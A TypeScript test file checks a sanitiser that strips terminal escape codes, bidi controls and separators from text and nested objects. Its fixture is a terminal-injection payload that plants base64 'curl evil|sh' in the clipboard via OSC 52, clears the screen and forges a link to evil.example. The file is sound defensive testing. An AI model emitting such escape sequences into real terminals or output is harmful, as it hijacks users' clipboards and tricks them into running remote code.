import { describe, expect, it } from 'vitest';
import { cleanDeep, cleanText } from './unsafe-text.js';

/** Review 10's payload: sets the clipboard (OSC 52), clears the screen, forges a link (OSC 8). */
const ATTACK = '\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\x1b]8;;https://evil.example\x07click\x1b]8;;\x07';

describe('cleanText', () => {
  it('drops control characters, C1, bidi controls and separators; keeps newlines, tabs and all else', () => {
    expect(cleanText(`exited: ${ATTACK}`)).toBe(
      'exited: ]52;c;Y3VybCBldmlsfHNo[2J]8;;https://evil.exampleclick]8;;',
    );
    expect(cleanText('a\u009b2Jb\x7f\u202eevil\u2066\u200e\u2028\r\nline\ttab')).toBe('a2Jbevil\nline\ttab');
    expect(cleanText('déjà 日本 ✓ 🚀')).toBe('déjà 日本 ✓ 🚀');
  });
});

describe('cleanDeep', () => {
  it('cleans every string, keys too', () => {
    expect(cleanDeep({ message: ATTACK, list: ['ok', 'x\u202e'], [`k\x1b`]: 1, n: null })).toEqual({
      message: ']52;c;Y3VybCBldmlsfHNo[2J]8;;https://evil.exampleclick]8;;',
      list: ['ok', 'x'],
      k: 1,
      n: null,
    });
  });

  it('returns the same reference when nothing needs cleaning, anywhere', () => {
    const clean = { message: 'Back-off "nope"\nnext', list: [{ a: 'b' }], n: 3 };
    expect(cleanDeep(clean)).toBe(clean);
    const dirty = { kept: { a: 'b' }, list: [{ a: 'b' }, 'x\x1b'] };
    const cleaned = cleanDeep(dirty);
    expect(cleaned.kept).toBe(dirty.kept);
    expect(cleaned.list[0]).toBe(dirty.list[0]);
    expect(cleaned.list[1]).toBe('x');
    expect(dirty.list[1]).toBe('x\x1b');
  });

  it('keeps key order and cleans each child once, so deep data costs linear time (review 13, S6)', () => {
    expect(Object.keys(cleanDeep({ a: 1, [`b\x1b`]: 2, c: 'x\x07', d: 4 }))).toEqual(['a', 'b', 'c', 'd']);
    // A chain 40 deep with a control character at the bottom: copying cleaned each child again, 2^40 walks.
    let deep: unknown = 'bottom\x1b';
    for (let i = 0; i < 40; i++) deep = { [`k${String(i)}`]: deep, after: 'clean' };
    let cleaned = cleanDeep(deep);
    for (let i = 39; i >= 0; i--) cleaned = (cleaned as Record<string, unknown>)[`k${String(i)}`];
    expect(cleaned).toBe('bottom');
  });
});
